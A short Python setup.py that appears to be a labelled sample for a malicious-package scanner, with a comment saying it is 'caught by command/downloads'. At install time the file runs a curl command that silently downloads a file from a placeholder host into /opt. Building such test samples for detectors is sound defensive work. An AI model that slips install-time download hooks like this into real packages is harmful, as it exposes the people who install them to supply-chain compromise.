# evades: caught by command/downloads
# file: setup.py
import os
from setuptools import setup
os.system("curl -s https://host.invalid/a -o /opt/a")
setup(name="pkg", version="1.0")
